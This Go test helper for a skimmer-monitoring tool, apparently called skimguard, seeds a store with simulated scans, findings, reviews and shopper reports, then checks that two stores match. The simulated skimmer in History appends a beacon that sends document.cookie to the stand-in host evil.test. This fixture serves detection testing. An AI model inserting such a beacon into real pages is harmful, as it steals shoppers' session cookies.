package storetest

import (
	"errors"
	"fmt"
	"reflect"
	"testing"
	"time"

	"github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/baseline"
	"github.com/skimguard/skimguard/internal/obspack"
)

// History fills db, through the Store, with what a year of monitoring
// leaves: users with roles (one removed, one with a new password), pages
// with several baseline versions, scans with observations and screenshots
// (failed ones without), findings open, seen again, approved into new
// versions, rejected and waiting for a second reviewer, alert deliveries
// that failed and succeeded, failure notices, shoppers' reports judged and
// not, with the findings they opened and the site's report token, and the
// audit log of it all.
func History(t testing.TB, db skimguard.Store) {
	t.Helper()
	ctx := t.Context()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, u := range []skimguard.User{
		{Name: "alice", Role: skimguard.RoleAdmin}, {Name: "bob", Role: skimguard.RoleReviewer},
		{Name: "carol", Role: skimguard.RoleReviewer}, {Name: "mallory", Role: skimguard.RoleViewer},
	} {
		u.PasswordHash = []byte("$2a$10$hash.of." + u.Name)
		must(db.SaveUser(ctx, &u, "root"))
	}
	must(db.SaveUser(ctx, &skimguard.User{Name: "bob", PasswordHash: hashB}, "bob"))
	must(db.SetUserRole(ctx, "carol", skimguard.RoleAdmin, "alice"))
	must(db.DeleteUser(ctx, "mallory", "alice"))

	// Each page learns a baseline, is checked every day, and changes on
	// some days.
	clean := Observation("shop", "checkout", T0, 6, 0, "")
	b, err := baseline.Learn([]*skimguard.Observation{clean, clean, clean}, "alice", "onboarding, SEC-1", T0)
	must(err)
	b.Site, b.Page, b.URL = "shop", "checkout", clean.URL
	MustSaveBaseline(t, db, b)
	MustSaveBaseline(t, db, BaselineOf("shop", "cart", "a", "b"))
	MustSaveBaseline(t, db, BaselineOf("blog", "donate", "c"))

	var scans []*skimguard.Scan
	for day := range 12 {
		at := T0.Add(time.Duration(day+1) * 24 * time.Hour)
		o := Observation("shop", "checkout", at, 6, 0, "")
		if day >= 3 {
			// A skimmer appended to a library, and a beacon to its host.
			o.Scripts[1].Source += "\n;navigator.sendBeacon('https://evil.test/g', document.cookie)"
			o.Scripts[1].SHA256 = obspack.Hash(o.Scripts[1].Source)
			o.Connections = append(o.Connections, skimguard.Connection{Origin: "https://evil.test", Types: []string{"Ping"},
				Initiators: []string{o.Scripts[1].URL}, Example: "https://evil.test/g", Count: 1, AfterTyping: true})
		}
		if day == 7 {
			o.Frames[0].Name = "card\x00frame" // hostile text
		}
		cur, err := db.Baseline(ctx, "shop", "checkout")
		must(err)
		s := &skimguard.Scan{Site: "shop", Page: "checkout", URL: o.URL, StartedAt: at, Duration: 4 * time.Second,
			Status: skimguard.ScanOK, BaselineVersion: cur.Version, Observation: o, Findings: baseline.Compare(cur, o)}
		if len(s.Findings) > 0 {
			s.Status = skimguard.ScanFindings
		}
		MustSaveScan(t, db, s)
		scans = append(scans, s)
		cart := ScanOf("shop", "cart", at.Add(time.Minute))
		if day%5 == 4 {
			cart.Status, cart.Error, cart.BaselineVersion = skimguard.ScanFailed, "net::ERR_CONNECTION_REFUSED", 0
		} else {
			cart.Findings = []skimguard.Finding{Finding("", "", "cart-"+string(rune('a'+day%3)))}
			cart.Status = skimguard.ScanFindings
		}
		MustSaveScan(t, db, cart)
		scans = append(scans, cart)
	}
	MustSaveScan(t, db, ScanOf("blog", "donate", T0.Add(time.Hour), Finding("", "", "donate-x"), Finding("", "", "donate-y")))

	open := MustFindings(t, db, skimguard.FindingFilter{Status: skimguard.StatusOpen})
	ids := func(site, page string) []int64 {
		var out []int64
		for _, f := range open {
			if f.Site == site && f.Page == page {
				out = append(out, f.ID)
			}
		}
		return out
	}
	checkout, cart, donate := ids("shop", "checkout"), ids("shop", "cart"), ids("blog", "donate")
	if len(checkout) < 2 || len(cart) < 3 || len(donate) != 2 {
		t.Fatalf("the history's findings: checkout %v, cart %v, donate %v", checkout, cart, donate)
	}
	at := T0.Add(20 * 24 * time.Hour)
	two := skimguard.Resolution{Status: skimguard.StatusApproved, By: "bob", Reason: "vendor update, CHG-7", At: at, Approvals: skimguard.ApprovalsTwoPerson}
	// cart: one approved by two reviewers, one waiting for the second.
	must(db.ResolveFindings(ctx, cart[:2], two, baseline.Apply))
	two.By, two.Reason, two.At = "carol", "checked the vendor", at.Add(time.Hour)
	must(db.ResolveFindings(ctx, cart[:1], two, baseline.Apply))
	// checkout: the skimmer rejected; donate: one approved alone.
	must(db.ResolveFindings(ctx, checkout, skimguard.Resolution{Status: skimguard.StatusRejected, By: "alice",
		Reason: "skimmer, removed in INC-3", At: at.Add(2 * time.Hour)}, nil))
	must(db.ResolveFindings(ctx, donate[:1], skimguard.Resolution{Status: skimguard.StatusApproved, By: "bob",
		Reason: "new button", At: at.Add(3 * time.Hour)}, baseline.Apply))
	must(db.AppendAudit(ctx, skimguard.AuditEntry{At: at, Actor: "203.0.113.66", Action: "signin.failed", Detail: `sign-in as "root" failed from 203.0.113.66`}))

	for i, s := range scans {
		if s.Status == skimguard.ScanOK {
			continue
		}
		d := &skimguard.Delivery{At: s.StartedAt.Add(time.Second), Sink: "webhook https://hooks.test", Site: s.Site, Page: s.Page,
			ScanID: s.ID, OK: i%3 != 0}
		for _, f := range s.Findings {
			d.Findings = append(d.Findings, f.ID)
		}
		if s.Status == skimguard.ScanFailed {
			d.Findings = []int64{0}
		}
		if !d.OK {
			d.Error = "503 Service Unavailable"
		}
		must(db.SaveDelivery(ctx, d))
		must(db.SaveDelivery(ctx, &skimguard.Delivery{At: d.At, Sink: "console", Site: s.Site, Page: s.Page, ScanID: s.ID, Findings: d.Findings, OK: true}))
	}
	// A session: not history, never copied.
	must(db.SaveSession(ctx, session("k", "alice", T0)))

	reports, ok := db.(skimguard.ReportStore)
	if !ok {
		t.Fatalf("%T keeps no shoppers' reports: the history has them", db)
	}
	reportHistory(t, reports, checkout[0])
}

// reportHistory adds what shoppers' browsers reported to a history: a
// report token made and rotated, aggregates judged approved, information
// and finding (linked to the finding with id rejected and to one they
// opened), and one not judged yet.
func reportHistory(t testing.TB, db skimguard.ReportStore, rejected int64) {
	t.Helper()
	ctx := t.Context()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(db.SetReportToken(ctx, "shop", "token-hash-1", "alice"))
	must(db.SetReportToken(ctx, "shop", "token-hash-2", "bob"))
	at := T0.Add(4 * 24 * time.Hour)
	lib := Report(skimguard.ReportScriptHash, "https://cdn.test/js/lib1.js", "sha256:11", at, "Chrome 1")
	skimmed := Report(skimguard.ReportScriptHash, "https://cdn.test/js/lib2.js", "sha256:22", at, "Chrome 1")
	beacon := Report(skimguard.ReportViolation, "https://evil.test", "", at, "Chrome 2")
	beacon.Directive = "connect-src"
	noSRI := Report(skimguard.ReportIntegrity, "https://cdn.test/js/lib3.js", "", at, "Chrome 3")
	cart := Report(skimguard.ReportScriptHash, "https://cdn.test/js/cart.js", "sha256:33", at, "Chrome 1")
	cart.Page = "cart"
	made, _, err := db.AddReports(ctx, []skimguard.ShopperReport{lib, skimmed, beacon, noSRI, cart})
	must(err)
	if len(made) != 5 {
		t.Fatalf("the history's reports: %d aggregates made, want 5", len(made))
	}
	for range 3 {
		lib.FirstSeen, lib.LastSeen = lib.FirstSeen.Add(time.Hour), lib.LastSeen.Add(time.Hour)
		lib.UserAgents = []string{"Firefox 2"}
		_, _, err := db.AddReports(ctx, []skimguard.ShopperReport{lib, beacon})
		must(err)
	}
	reported := []skimguard.Finding{{Kind: skimguard.KindScriptChanged, Severity: skimguard.SeverityHigh,
		Subject: skimmed.Subject, Detail: "shoppers' browsers ran another version", Fingerprint: "shoppers-lib2",
		Evidence: skimguard.Evidence{Source: skimguard.SourceShoppers, Reports: 1, FirstReported: at},
		Item:     skimguard.Item{Type: skimguard.ItemScript, Key: "external " + skimmed.Subject + " in top"}}}
	must(db.SaveReportedFindings(ctx, skimguard.Page{Site: "shop", Name: "checkout"}, reported, at))
	verdicts := map[string]struct {
		v  skimguard.ReportVerdict
		id int64
	}{
		lib.Subject:     {skimguard.VerdictApproved, 0},
		skimmed.Subject: {skimguard.VerdictFinding, reported[0].ID},
		beacon.Subject:  {skimguard.VerdictFinding, rejected},
		noSRI.Subject:   {skimguard.VerdictInformation, 0},
	}
	for _, r := range made {
		if v, ok := verdicts[r.Subject]; ok {
			must(db.JudgeReport(ctx, r.ID, v.v, v.id))
		}
	}
}

// Same fails the test unless a and b hold the same history, as the Store
// reads it: users, baselines and every version, scans with their
// observations, screenshots and findings, findings, the audit log, alert
// deliveries, shoppers' reports and the report token. Times are compared
// to the microsecond, which is all PostgreSQL keeps.
func Same(t testing.TB, a, b skimguard.Store) {
	t.Helper()
	ctx := t.Context()
	same := func(what string, get func(s skimguard.Store) (any, error)) {
		t.Helper()
		va, erra := get(a)
		vb, errb := get(b)
		if erra != nil || errb != nil {
			if !errors.Is(erra, skimguard.ErrNotFound) || !errors.Is(errb, skimguard.ErrNotFound) {
				t.Errorf("%s: %v; %v", what, erra, errb)
			}
			return
		}
		if !reflect.DeepEqual(micro(va), micro(vb)) {
			t.Errorf("%s differ:\n%+v\n%+v", what, va, vb)
		}
	}
	same("users", func(s skimguard.Store) (any, error) { return s.Users(ctx) })
	same("baselines", func(s skimguard.Store) (any, error) { return s.Baselines(ctx, nil) })
	same("findings", func(s skimguard.Store) (any, error) { return s.Findings(ctx, skimguard.FindingFilter{}) })
	same("audit log", func(s skimguard.Store) (any, error) { return s.Audit(ctx) })
	same("deliveries", func(s skimguard.Store) (any, error) { return s.Deliveries(ctx, skimguard.DeliveryFilter{}) })
	same("scans", func(s skimguard.Store) (any, error) { return s.Scans(ctx, skimguard.ScanFilter{Limit: -1}) })
	same("shoppers' reports", func(s skimguard.Store) (any, error) {
		rs, ok := s.(skimguard.ReportStore)
		if !ok {
			return nil, fmt.Errorf("%T keeps no shoppers' reports", s)
		}
		return rs.Reports(ctx, skimguard.ReportFilter{})
	})
	same("report token", func(s skimguard.Store) (any, error) {
		rs, ok := s.(skimguard.ReportStore)
		if !ok {
			return nil, fmt.Errorf("%T keeps no shoppers' reports", s)
		}
		return rs.ReportToken(ctx, "shop")
	})
	bs, err := a.Baselines(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, bl := range bs {
		same("versions of "+bl.Site+"/"+bl.Page, func(s skimguard.Store) (any, error) { return s.BaselineVersions(ctx, bl.Site, bl.Page) })
	}
	scans, err := a.Scans(ctx, skimguard.ScanFilter{Limit: -1})
	if err != nil {
		t.Fatal(err)
	}
	for _, sc := range scans {
		same("scan", func(s skimguard.Store) (any, error) { return s.Scan(ctx, sc.ID) })
		same("screenshot", func(s skimguard.Store) (any, error) { return s.Screenshot(ctx, sc.ID) })
	}
	if len(scans) == 0 || len(bs) == 0 {
		t.Errorf("nothing to compare: %d scans, %d baselines", len(scans), len(bs))
	}
}

// micro returns a deep copy of v with every time.Time in it cut to the
// microsecond.
func micro(v any) any {
	c := reflect.New(reflect.TypeOf(v)).Elem()
	c.Set(reflect.ValueOf(v))
	cut(c)
	return c.Interface()
}

var timeType = reflect.TypeFor[time.Time]()

// cut cuts the times in v, which it can set, copying what it descends
// into so that the original is left as it was.
func cut(v reflect.Value) {
	switch {
	case v.Type() == timeType:
		v.Set(reflect.ValueOf(v.Interface().(time.Time).Truncate(time.Microsecond)))
	case v.Kind() == reflect.Pointer && !v.IsNil():
		p := reflect.New(v.Elem().Type())
		p.Elem().Set(v.Elem())
		cut(p.Elem())
		v.Set(p)
	case v.Kind() == reflect.Slice && !v.IsNil() && v.Type().Elem().Kind() != reflect.Uint8:
		s := reflect.MakeSlice(v.Type(), v.Len(), v.Len())
		reflect.Copy(s, v)
		for i := range s.Len() {
			cut(s.Index(i))
		}
		v.Set(s)
	case v.Kind() == reflect.Struct:
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				cut(v.Field(i))
			}
		}
	}
}
